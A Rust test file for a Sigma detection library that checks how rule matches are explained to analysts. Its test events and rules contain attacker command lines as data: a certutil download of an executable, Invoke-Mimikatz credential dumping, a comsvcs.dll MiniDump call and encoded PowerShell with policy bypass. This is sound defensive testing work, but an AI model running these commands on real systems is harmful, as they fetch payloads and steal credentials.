//! `Rule::explain`: the selections that held and the (field, value) pairs that made them
//! hold — what an analyst needs to see why a Sigma rule fired.

#![allow(clippy::unwrap_used)]

use serde_json::{Value, json};
use trustpath_event::{Event, Format, Origin, SourceKind};
use trustpath_sigma::{LoadOptions, MatchedValue, RuleSet};

fn event(fields: Value) -> Event {
    Event {
        time: jiff::Timestamp::UNIX_EPOCH,
        source: SourceKind::Windows,
        format: Format::Evtx,
        origin: Origin::file("test"),
        fields: trustpath_event::fields_from(fields),
        keys: Default::default(),
    }
}

fn rule(body: &str) -> RuleSet {
    let yaml = format!("title: t\nid: r1\nlogsource:\n  product: windows\n{body}\n");
    let (set, errors) = RuleSet::from_str("test.yml", &yaml, &LoadOptions::default());
    assert!(errors.is_empty(), "{errors:?}");
    set
}

fn pair(selection: &str, field: &str, value: &str) -> MatchedValue {
    MatchedValue {
        selection: selection.into(),
        field: field.into(),
        value: value.into(),
    }
}

#[test]
fn names_the_selection_and_the_values_that_matched() {
    let set = rule(
        "detection:\n  selection_img:\n    Image|endswith: '\\certutil.exe'\n  selection_cli:\n    CommandLine|contains: [' -decode ', ' -urlcache ']\n  filter:\n    User: SYSTEM\n  condition: selection_img and selection_cli and not filter\nfields:\n  - CommandLine\n  - ParentImage\n  - Missing",
    );
    let e = event(json!({
        "EventID": 1,
        "Image": "C:\\Windows\\System32\\certutil.exe",
        "CommandLine": "certutil -urlcache -f http://x/a.exe a.exe",
        "ParentImage": "C:\\Windows\\explorer.exe",
        "User": "alice",
    }));
    let rule = &set.rules[0];
    let why = rule.explain(&e);
    assert!(why.matched);
    assert_eq!(why.selections, vec!["selection_img", "selection_cli"]);
    assert_eq!(
        why.values,
        vec![
            pair(
                "selection_img",
                "Image",
                "C:\\Windows\\System32\\certutil.exe"
            ),
            pair(
                "selection_cli",
                "CommandLine",
                "certutil -urlcache -f http://x/a.exe a.exe"
            ),
        ]
    );
    assert_eq!(
        rule.output_values(&e),
        vec![
            (
                "CommandLine".to_owned(),
                "certutil -urlcache -f http://x/a.exe a.exe".to_owned()
            ),
            (
                "ParentImage".to_owned(),
                "C:\\Windows\\explorer.exe".to_owned()
            ),
        ]
    );
    // The filter held for SYSTEM: the rule does not match, and the filter is never
    // reported as a reason.
    let system = event(json!({
        "Image": "C:\\Windows\\System32\\certutil.exe",
        "CommandLine": "certutil -decode a b",
        "User": "SYSTEM",
    }));
    let why = rule.explain(&system);
    assert!(!why.matched);
    assert!(!why.selections.contains(&"filter".to_owned()));
}

#[test]
fn one_of_reports_only_the_selections_that_held() {
    let set = rule(
        "detection:\n  sel_a:\n    EventID: 4688\n  sel_b:\n    EventID: 4624\n  sel_c:\n    NewProcessName|contains: psexec\n  condition: 1 of sel_*",
    );
    let why = set.rules[0].explain(&event(json!({"EventID": 4688, "NewProcessName": "x"})));
    assert!(why.matched);
    assert_eq!(why.selections, vec!["sel_a"]);
    assert_eq!(why.values, vec![pair("sel_a", "EventID", "4688")]);
}

#[test]
fn keywords_name_the_field_that_contained_them() {
    let set = rule("detection:\n  keywords:\n    - 'mimikatz'\n  condition: keywords");
    let why = set.rules[0].explain(&event(json!({
        "EventID": 4104,
        "ScriptBlockText": "Invoke-Mimikatz -DumpCreds",
        "Path": "c:\\temp\\a.ps1",
    })));
    assert!(why.matched);
    assert_eq!(
        why.values,
        vec![pair(
            "keywords",
            "ScriptBlockText",
            "Invoke-Mimikatz -DumpCreds"
        )]
    );
}

#[test]
fn absence_and_all_are_shown() {
    let set = rule(
        "detection:\n  sel:\n    CommandLine|contains|all: ['-enc', 'bypass']\n    ParentUser: null\n  condition: sel",
    );
    let why = set.rules[0].explain(&event(json!({
        "CommandLine": "powershell -ep bypass -enc AAAA",
    })));
    assert!(why.matched);
    assert_eq!(
        why.values,
        vec![
            pair("sel", "CommandLine", "powershell -ep bypass -enc AAAA"),
            pair("sel", "ParentUser", "(absent)"),
        ]
    );
}

#[test]
fn long_values_are_cut() {
    let set = rule("detection:\n  sel:\n    CommandLine|contains: x\n  condition: sel");
    let long = "x".repeat(5000);
    let why = set.rules[0].explain(&event(json!({ "CommandLine": long })));
    let value = &why.values[0].value;
    assert_eq!(value.chars().count(), trustpath_sigma::MAX_VALUE_CHARS + 1);
    assert!(value.ends_with('…'));
}

#[test]
fn security_4688_is_explained_with_its_field_names() {
    let yaml = "title: t\nid: r1\nlogsource:\n  category: process_creation\n  product: windows\ndetection:\n  selection:\n    Image|endswith: '\\msedge.exe'\n  condition: selection\nfields:\n  - Image\n  - CommandLine\n";
    let (set, errors) = RuleSet::from_str("pc.yml", yaml, &LoadOptions::default());
    assert!(errors.is_empty(), "{errors:?}");
    let e = event(json!({
        "EventID": 4688,
        "Channel": "Security",
        "NewProcessName": "C:\\Edge\\msedge.exe",
        "CommandLine": "msedge.exe --single-argument https://x",
    }));
    let mut hits = Vec::new();
    set.compile().matches(&e, &mut hits);
    assert_eq!(hits.len(), 1, "the matcher reads NewProcessName for 4688");
    let rule = &set.rules[0];
    let why = rule.explain(&e);
    assert!(why.matched);
    assert_eq!(
        why.values,
        vec![pair("selection", "NewProcessName", "C:\\Edge\\msedge.exe")]
    );
    assert_eq!(
        rule.output_values(&e),
        vec![
            ("Image".to_owned(), "C:\\Edge\\msedge.exe".to_owned()),
            (
                "CommandLine".to_owned(),
                "msedge.exe --single-argument https://x".to_owned()
            ),
        ]
    );
}

#[test]
fn a_security_4688_event_is_explained_under_the_4688_field_names() {
    // process_creation maps to Sysmon 1 (Image) and Security 4688 (NewProcessName). The
    // selection also holds through CommandLine, so under the Sysmon names it holds too;
    // but the matcher only matches a Security event under the 4688 target, and so must
    // the explanation (it named CommandLine, not NewProcessName, before).
    let yaml = "title: t\nid: r1\nlogsource:\n  product: windows\n  category: process_creation\ndetection:\n  selection_img:\n    - Image|endswith: '\\rundll32.exe'\n    - CommandLine|contains: 'rundll32'\n  selection_cli:\n    CommandLine|contains: 'MiniDump'\n  filter:\n    User: SYSTEM\n  condition: all of selection_* and not filter\n";
    let (set, errors) = RuleSet::from_str("test.yml", yaml, &LoadOptions::default());
    assert!(errors.is_empty(), "{errors:?}");
    let cli = "rundll32.exe comsvcs.dll MiniDump 512 a.dmp full";
    let security = event(json!({
        "Channel": "Security",
        "EventID": 4688,
        "NewProcessName": "C:\\Windows\\System32\\rundll32.exe",
        "CommandLine": cli,
    }));
    let mut matched = Vec::new();
    set.compile().matches(&security, &mut matched);
    assert_eq!(matched, vec![0]);
    let rule = &set.rules[0];
    let want = vec![
        pair(
            "selection_img",
            "NewProcessName",
            "C:\\Windows\\System32\\rundll32.exe",
        ),
        pair("selection_cli", "CommandLine", cli),
    ];
    let why = rule.explain(&security);
    assert!(why.matched);
    assert_eq!(why.values, want);
    assert_eq!(rule.explain_match(&security), why);
    // A Sysmon event is explained under the Sysmon names.
    let sysmon = event(json!({
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "EventID": 1,
        "Image": "C:\\Windows\\System32\\rundll32.exe",
        "CommandLine": cli,
    }));
    let why = rule.explain_match(&sysmon);
    assert_eq!(
        why.values[0],
        pair(
            "selection_img",
            "Image",
            "C:\\Windows\\System32\\rundll32.exe"
        )
    );
    assert_eq!(why, rule.explain(&sysmon));
}

/// Values are shown as the event wrote them, whatever case the comparison used: plain
/// lower case, ASCII upper case, non-ASCII upper case, numbers and booleans.
#[test]
fn values_are_shown_as_written_in_any_case() {
    let set = rule(
        "detection:\n  sel:\n    User|contains: 'müller'\n    Path|endswith: '\\tool.exe'\n    Flag: 'true'\n    Port: 4444\n    Name|startswith: 'x'\n  condition: sel",
    );
    let why = set.rules[0].explain(&event(json!({
        "User": "CORP\\MÜLLER",
        "Path": "C:\\TEMP\\TOOL.EXE",
        "Flag": true,
        "Port": 4444,
        "Name": "xyz",
    })));
    assert!(why.matched);
    assert_eq!(
        why.values,
        vec![
            pair("sel", "User", "CORP\\MÜLLER"),
            pair("sel", "Path", "C:\\TEMP\\TOOL.EXE"),
            pair("sel", "Flag", "true"),
            pair("sel", "Port", "4444"),
            pair("sel", "Name", "xyz"),
        ]
    );
}

/// A value list of several substrings is searched with its grouped needles, as the
/// matcher does: every value of a list field that holds one is shown, in any case, the
/// values that hold none are not; each item of a selection shows its own values.
#[test]
fn grouped_substrings_show_each_value_that_holds_one() {
    let set = rule(
        "detection:\n  sel:\n    Tags|contains: ['müller', 'admin', '-enc ']\n  other:\n    Tags|contains: ['zz']\n    Tags|re: '^ID-\\d+$'\n  condition: sel and other",
    );
    let e = event(json!({
        "Tags": ["CORP\\MÜLLER", "guest", "Domain ADMINS", "ID-42", "zz"],
    }));
    let rule = &set.rules[0];
    let why = rule.explain(&e);
    assert!(why.matched);
    assert_eq!(
        why.values,
        vec![
            pair("sel", "Tags", "CORP\\MÜLLER"),
            pair("sel", "Tags", "Domain ADMINS"),
            pair("other", "Tags", "zz"),
            pair("other", "Tags", "ID-42"),
        ]
    );
    assert_eq!(rule.explain_match(&e), why);
    let none = event(json!({ "Tags": ["guest", "ID-x", "MÜLLE"] }));
    assert!(!rule.explain(&none).matched);
}

/// Matching a keyword list builds its needle searcher, which explanations then use
/// (they never build one): the explanation is the same before and after.
#[test]
fn explanations_are_the_same_once_matching_built_a_searcher() {
    let set = rule(
        "detection:\n  keywords:\n    - 'müller'\n    - 'admin'\n    - '-enc '\n  condition: keywords",
    );
    let e = event(json!({
        "Tags": ["CORP\\MÜLLER", "guest"],
        "Cmd": "powershell -ENC abc",
    }));
    let rule = &set.rules[0];
    let before = rule.explain(&e);
    assert!(before.matched);
    assert_eq!(
        before.values,
        vec![
            pair("keywords", "Tags", "CORP\\MÜLLER"),
            pair("keywords", "Cmd", "powershell -ENC abc"),
        ]
    );
    let mut out = Vec::new();
    set.compile().matches(&e, &mut out);
    assert_eq!(out, vec![0]);
    assert_eq!(rule.explain(&e), before);
    assert_eq!(rule.explain_match(&e), before);
}
